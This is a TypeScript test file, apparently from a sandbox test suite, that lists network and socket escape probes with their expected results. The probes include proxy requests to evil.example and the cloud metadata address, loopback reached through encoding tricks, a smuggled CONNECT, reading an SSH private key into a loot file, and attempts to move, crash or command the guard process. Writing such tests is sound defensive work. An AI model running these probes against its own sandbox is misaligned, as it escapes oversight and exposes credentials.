/** Whatever listens, on this machine and elsewhere: by ports, by the proxy of the sandbox, by sockets. */
import { called, type Effect, inGroup, type Listener, loot, seen } from '../try.js';

/** Connects as node does, and says its tag. */
const say = (where: string) =>
  `"$NODE" -e 'const s = require("net").connect(${where}); s.on("connect", () => s.end(process.env.TAG)); s.on("error", () => {})'`;

/** Asks the proxy of the environment for `authority` and, if it connects, says its tag there; what it is told becomes the loot. */
const byProxy = (authority: string, first = 'CONNECT') =>
  `"$NODE" -e 'const p = new URL(process.env.HTTPS_PROXY), at = ${authority}, s = require("net").connect(p.port, p.hostname); s.write("${first} " + at + " HTTP/1.1\\r\\nhost: " + at + "\\r\\n\\r\\n"); s.once("data", (d) => { require("fs").writeFileSync(process.env.LOOT, d); s.end(process.env.TAG) }); s.on("error", () => {})'`;

const loopback = (host: string) => `"${host}:" + process.env.LOOPBACK`;

/** Connected, says the proxy. */
const through: Effect = seen((after) => / 200 /.test(after.loot.split('\n')[0] ?? ''));

const refusing = (host: string) => new RegExp(`network\\.refused.*${host}`);

interface Spoken {
  readonly id: string;
  readonly what: string;
  readonly where: string;
  readonly at: Listener;
  readonly short?: true;
}

const reach = ({ id, what, where, at, short }: Spoken) =>
  ({
    id,
    what,
    line: say(where),
    effect: called(at),
    inside: 'held S8',
    outside: 'documented O10',
    ...(short ? { short } : {}),
  }) as const;

export const NETWORK = inGroup('network', [
  reach({
    id: 'connect-loopback',
    what: 'connects to a port of this machine',
    where: 'process.env.LOOPBACK, "127.0.0.1"',
    at: 'loopback',
    short: true,
  }),
  reach({
    id: 'connect-loopback6',
    what: 'connects to one by IPv6',
    where: 'process.env.LOOPBACK6, "::1"',
    at: 'loopback6',
  }),
  reach({
    id: 'connect-zero',
    what: 'connects to one by the address 0.0.0.0',
    where: 'process.env.LOOPBACK, "0.0.0.0"',
    at: 'loopback',
  }),
  reach({
    id: 'connect-mapped',
    what: 'connects to one by an IPv4 address in IPv6',
    where: 'process.env.LOOPBACK, "::ffff:127.0.0.1"',
    at: 'loopback',
  }),
  {
    id: 'send-datagram',
    what: 'sends a datagram to this machine',
    line: `"$NODE" -e 'const s = require("dgram").createSocket("udp4"); s.send(process.env.TAG, Number(process.env.DATAGRAM), "127.0.0.1", () => s.close())'`,
    effect: called('datagram'),
    inside: 'held S8',
    outside: 'documented O10',
  },
  {
    id: 'look-connect',
    what: 'connects to a port of this machine in a read-only turn',
    turn: 'look',
    line: say('process.env.LOOPBACK, "127.0.0.1"'),
    effect: called('loopback'),
    inside: 'held S8',
    outside: 'documented O10',
  },
  {
    id: 'setup-connect',
    what: 'connects to one in the set-up',
    turn: 'setup',
    line: say('process.env.LOOPBACK, "127.0.0.1"'),
    effect: called('loopback'),
    inside: 'held S13',
    outside: 'documented O10',
  },
  {
    id: 'check-connect',
    what: 'connects to one in a validation command',
    turn: 'check',
    line: say('process.env.LOOPBACK, "127.0.0.1"'),
    effect: called('loopback'),
    inside: 'held S13',
    outside: 'documented O10',
  },
  {
    id: 'proxy-loopback',
    what: 'asks the proxy for 127.0.0.1',
    line: byProxy(loopback('127.0.0.1')),
    effect: called('loopback'),
    said: refusing('127\\.0\\.0\\.1'),
    inside: 'refused S9',
    outside: null,
    short: true,
  },
  {
    id: 'proxy-localhost',
    what: 'asks it for localhost',
    line: byProxy(loopback('localhost')),
    effect: called('loopback'),
    said: refusing('localhost'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-decimal',
    what: 'asks it for the address as one number',
    line: byProxy(loopback('2130706433')),
    effect: called('loopback'),
    said: refusing('2130706433|127\\.0\\.0\\.1'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-short',
    what: 'asks it for the address in hexadecimal and short',
    line: byProxy(loopback('0x7f.1')),
    effect: called('loopback'),
    said: refusing('0x7f|127\\.0\\.0\\.1'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-ipv6',
    what: 'asks it for [::1]',
    line: byProxy('"[::1]:" + process.env.LOOPBACK6'),
    effect: called('loopback6'),
    said: refusing('::1'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-mapped',
    what: 'asks it for [::ffff:127.0.0.1]',
    line: byProxy(loopback('[::ffff:127.0.0.1]')),
    effect: called('loopback'),
    said: refusing('::ffff'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-elsewhere',
    what: 'asks it for a host that is not on the list',
    line: byProxy('"evil.example:443"'),
    effect: through,
    said: refusing('evil\\.example'),
    inside: 'refused S9',
    outside: null,
    short: true,
  },
  {
    id: 'proxy-other-port',
    what: 'asks it for a registry at another port',
    line: byProxy('"registry.npmjs.org:80"'),
    effect: through,
    said: refusing('registry\\.npmjs\\.org:80'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-lookalike',
    what: 'asks it for a name that only ends like a registry',
    line: byProxy('"evilregistry.npmjs.org.evil.example:443"'),
    effect: through,
    said: refusing('evilregistry'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-metadata',
    what: 'asks it for what a cloud tells its machines',
    line: byProxy('"169.254.169.254:80"'),
    effect: through,
    said: refusing('169\\.254'),
    inside: 'refused S9',
    outside: null,
  },
  {
    id: 'proxy-plain',
    what: 'asks it for a page without a tunnel',
    line: byProxy(`"http://127.0.0.1:" + process.env.LOOPBACK + "/"`, 'GET'),
    effect: called('loopback'),
    inside: 'held S9',
    outside: null,
  },
  {
    id: 'proxy-smuggled',
    what: 'puts a second request behind the first',
    line: byProxy(`"evil.example:443 HTTP/1.1\\r\\n\\r\\nCONNECT 127.0.0.1:" + process.env.LOOPBACK`),
    effect: called('loopback'),
    inside: 'held S9',
    outside: null,
  },
  {
    id: 'network-off',
    what: 'connects to a port of this machine where the network is off',
    config: 'network: off\n',
    run: 'network: off',
    line: `${say('process.env.LOOPBACK, "127.0.0.1"')}`,
    effect: called('loopback'),
    inside: 'held S8',
    outside: 'documented O10',
  },
  {
    id: 'network-off-proxy',
    what: 'finds a proxy where the network is off',
    config: '',
    run: 'network: off',
    line: `echo "$HTTPS_PROXY" > "$LOOT"; ls /run/sluice >> "$LOOT"`,
    effect: seen((after) => /http:|sock/.test(after.loot)),
    inside: 'held S8',
    outside: null,
  },
  {
    id: 'network-on',
    what: 'connects to a port of this machine where the network is on',
    config: 'network: on\n',
    run: 'network: on',
    line: say('process.env.LOOPBACK, "127.0.0.1"'),
    effect: called('loopback'),
    inside: 'documented N4',
    outside: 'documented O10',
  },
  {
    id: 'network-on-files',
    what: 'reads an SSH key where the network is on',
    run: 'network: on',
    line: 'cat "$PERSON/.ssh/id_rsa" > "$LOOT"',
    effect: loot('ssh'),
    inside: 'held S2',
    outside: 'documented O5',
  },
]);

/** One that the first call of a guard is not. */
const garbage = (text: string) =>
  `"$NODE" -e 'const s = require("net").connect(process.env.GUARDSOCK); s.on("connect", () => s.write(${text})); s.on("error", () => {}); setTimeout(() => s.destroy(), 1500)'`;

const guardDies = seen(({ facts, isAlive }) => !isAlive(facts.GUARD));

export const SOCKETS = inGroup('sockets', [
  reach({
    id: 'connect-socket',
    what: 'connects to a unix socket of the person',
    where: 'process.env.SOCKET',
    at: 'socket',
    short: true,
  }),
  reach({
    id: 'connect-abstract',
    what: 'connects to an abstract socket',
    where: '"\\0" + process.env.ABSTRACT',
    at: 'abstract',
    short: true,
  }),
  {
    id: 'socket-by-root',
    what: 'connects to that socket by the root of another process',
    line: say('"/proc/1/root" + process.env.SOCKET'),
    effect: called('socket'),
    inside: 'held S8',
    outside: null,
  },
  {
    id: 'remove-socket',
    what: 'removes the socket of the guard',
    line: 'mv "$GUARDSOCK" "$GUARDSOCK.gone"; [ -e "$GUARDSOCK.gone" ] && mv "$GUARDSOCK.gone" "$GUARDSOCK" && echo wrote > "$LOOT"',
    effect: seen((after) => after.loot.includes('wrote')),
    inside: 'held S8',
    outside: 'documented O9',
  },
  {
    id: 'guard-garbage',
    what: 'says garbage to the guard',
    line: garbage('"{]\\0garbage\\n".repeat(99)'),
    effect: guardDies,
    inside: 'held S8',
    outside: 'held A33',
  },
  {
    id: 'guard-endless',
    what: 'says a line without an end to the guard',
    line: garbage('"x".repeat(30000000)'),
    effect: guardDies,
    inside: 'held S8',
    outside: 'held A33',
  },
  {
    id: 'guard-own-program',
    what: 'asks the guard to start a program',
    line: garbage(
      `JSON.stringify({ id: 1, kind: "run", op: "start", argv: ["touch", process.env.MARKS + "/" + process.env.TAG], program: ["touch", process.env.MARKS + "/" + process.env.TAG] }) + "\\n"`,
    ),
    effect: { kind: 'obeyed' },
    inside: 'held S8',
    outside: 'held A33',
  },
]);
